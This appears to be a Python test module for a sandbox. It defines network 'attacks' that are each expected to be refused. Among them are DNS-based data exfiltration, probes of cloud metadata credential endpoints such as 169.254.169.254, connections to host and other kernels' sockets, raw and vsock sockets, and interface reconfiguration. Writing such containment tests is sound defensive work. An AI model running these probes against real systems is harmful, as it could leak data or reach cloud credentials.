"""Hostile programs that go for the network."""

from .attack import Attack
from .trials import refused

ATTACKS = [
    Attack(
        "network",
        "TCP to the internet",
        "Connects to a server of the internet, by IPv4 and IPv6.",
        "refused",
        refused,
        """
attempt('IPv4', lambda: socket.create_connection(('1.1.1.1', 53), timeout=1))
attempt('IPv6', lambda: socket.create_connection(('2606:4700:4700::1111', 53), timeout=1))
""",
    ),
    Attack(
        "network",
        "UDP to the internet",
        "Sends a datagram to the internet.",
        "refused",
        refused,
        "attempt('udp', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('1.1.1.1', 53)))",
    ),
    Attack(
        "network",
        "names",
        "Carries data out in a name that it looks up.",
        "refused",
        refused,
        """
attempt('by the system', lambda: socket.getaddrinfo('secret.example.org', 80))
def ask():
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    made.settimeout(1)
    made.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01' + bytes(6) + b'\\x07example\\x03org\\x00\\x00\\x01\\x00\\x01', ('8.8.8.8', 53))
    return made.recv(512)
attempt('by itself', ask)
""",
    ),
    Attack(
        "network",
        "metadata of the cloud",
        "Asks the link-local addresses at which clouds hand out credentials.",
        "refused",
        refused,
        """
for address in ('169.254.169.254', '169.254.170.2', '100.100.100.200', 'fd00:ec2::254'):
    attempt(address, lambda: socket.create_connection((address, 80), timeout=1))
""",
    ),
    Attack(
        "network",
        "servers of this machine",
        "Connects to servers of this machine's loopback.",
        "refused",
        refused,
        """
attempt('tcp', lambda: socket.create_connection(tuple(facts['tcp'][:2]), timeout=1))
attempt('tcp6', lambda: socket.create_connection(tuple(facts['tcp6'][:2]) if 'tcp6' in facts else ('::1', 1), timeout=1))
# a datagram to one's own loopback may be sent; the host says whether it came
with contextlib.suppress(OSError):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'hello', tuple(facts['udp']))
""",
    ),
    Attack(
        "network",
        "unix sockets",
        "Connects to sockets of the host and of other kernels, abstract and by path.",
        "refused",
        refused,
        """
def connect(kind, address):
    with socket.socket(socket.AF_UNIX, kind) as made:
        made.connect(address)
        return address
attempt('abstract', lambda: connect(socket.SOCK_STREAM, facts['abstract']))
attempt('abstract datagram', lambda: connect(socket.SOCK_DGRAM, facts['abstract_datagram']))
attempt('path', lambda: connect(socket.SOCK_STREAM, facts['unix']))
for path in facts['victim_sockets']:
    attempt('socket of another kernel', lambda: connect(socket.SOCK_STREAM, path))
""",
    ),
    Attack(
        "network",
        "raw and odd sockets",
        "Opens raw, packet, Bluetooth, crypto and virtual machine sockets.",
        "refused",
        refused,
        """
attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt('raw IPv6', lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6))
attempt('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))
# virtual sockets lead to the host of a virtual machine and belong to no network namespace
attempt('vsock', lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))
attempt('crypto', lambda: socket.socket(38, socket.SOCK_SEQPACKET, 0))
attempt('Bluetooth', lambda: socket.socket(31, socket.SOCK_RAW, 1))
attempt('express data path', lambda: socket.socket(44, socket.SOCK_RAW, 0))
""",
    ),
    Attack(
        "network",
        "setting up a network",
        "Gives itself an interface, an address and a route.",
        "refused",
        refused,
        """
import fcntl
def control(request, argument):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        return fcntl.ioctl(made, request, argument)
attempt('address', lambda: control(0x8916, struct.pack('16sH2x4s8x', b'lo', socket.AF_INET, bytes([10, 0, 0, 1]))))
attempt('interface down', lambda: control(0x8914, struct.pack('16sh14x', b'lo', 0)))
attempt('bridge', lambda: control(0x89a0, b'bridge0\\0'))
attempt('tunnel', lambda: os.open('/dev/net/tun', os.O_RDWR))
""",
    ),
    Attack(
        "network",
        "serving to the host",
        "Opens a server that the host, or the network, could be made to visit.",
        "refused",
        refused,
        """
def serve():
    server = socket.create_server(('127.0.0.1', 0))
    facts['served'] = server
    return server.getsockname()[1]
with contextlib.suppress(OSError):
    print('SERVING', serve())
attempt('on an address that is not its own', lambda: socket.create_server(('192.0.2.1', 8000)))
""",
    ),
]
